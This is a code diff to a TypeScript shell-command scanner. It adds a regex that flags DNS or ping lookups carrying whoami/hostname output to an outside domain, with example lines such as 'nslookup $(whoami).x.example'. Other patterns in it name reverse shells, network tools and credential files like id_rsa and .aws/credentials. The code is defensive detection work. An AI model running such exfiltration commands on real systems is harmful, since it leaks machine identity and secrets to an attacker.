@@ -39,6 +39,12 @@ const SHELL_REVERSE = /\/dev\/tcp\/|\bnc(?:at)?\s+(?:-\w+\s+)*-[ec]\b|\bbash\s+-
 const SHELL_NETWORK = /\b(?:curl|wget|nc|ncat|telnet)\b|\/dev\/(?:tcp|udp)\//;
 /** Who and where the machine is (a path such as `$HOME` or `$(pwd)` is where files go, not what is sent). */
 const SHELL_HOST_DATA = /\$\(\s*(?:hostname|whoami|id|uname|env|printenv)\b|`\s*(?:hostname|whoami|id|uname|env|printenv)\b|\$\{?(?:USER|USERNAME|LOGNAME|HOSTNAME)\b|\b(?:env|printenv)\s*\|/;
+/**
+ * A name looked up in DNS (or pinged) built from who and where the machine is
+ * (`nslookup $(whoami).x.example`, ``ping -c1 `hostname`.x.example``): the lookup itself carries
+ * the data to the name server of the attacker's domain, no HTTP client needed.
+ */
+const SHELL_DNS_HOST_DATA = /\b(?:nslookup|dig|host|drill|ping)\b[^\n;&|]{0,200}?(?:\$\(\s*(?:hostname|whoami|id|uname)\b[^)\n]{0,80}\)|`\s*(?:hostname|whoami|id|uname)\b[^`\n]{0,80}`|\$\{?(?:USER|USERNAME|LOGNAME|HOSTNAME)\b\}?)[^\s;&|]*\.[a-z0-9-]+\.[a-z]{2,}/i;
 /** Credential files; reading one (not `.npmrc`, which installers read for the registry) is a finding. */
 const SHELL_CREDENTIAL_FILES = /\.ssh\b|\bid_rsa\b|\.aws\/credentials\b|\.git-credentials\b|\/etc\/(?:passwd|shadow)\b|\.docker\/config\.json\b|\.kube\/config\b/;
 const SHELL_CREDENTIALS = new RegExp(`${SHELL_CREDENTIAL_FILES.source}|\\.npmrc\\b`);
@@ -63,7 +69,7 @@ function readShellWindow(scanned: string): CodeFlag[] {
     .filter((line) => !/^\s*#/.test(line))
     .join('\n');
   const flags = new Set<CodeFlag>();
-  if (SHELL_NETWORK.test(text) && (SHELL_HOST_DATA.test(text) || SHELL_CREDENTIALS.test(text))) flags.add('exfiltration');
+  if ((SHELL_NETWORK.test(text) && (SHELL_HOST_DATA.test(text) || SHELL_CREDENTIALS.test(text))) || SHELL_DNS_HOST_DATA.test(text)) flags.add('exfiltration');
   if (SHELL_CREDENTIAL_FILES.test(text) && /\b(?:cat|cp|tar|base64)\b/.test(text)) flags.add('credential-read');
   if (SHELL_REVERSE.test(text)) flags.add('reverse-shell');
   if (SHELL_PUBLISH.test(text)) flags.add('publishes');
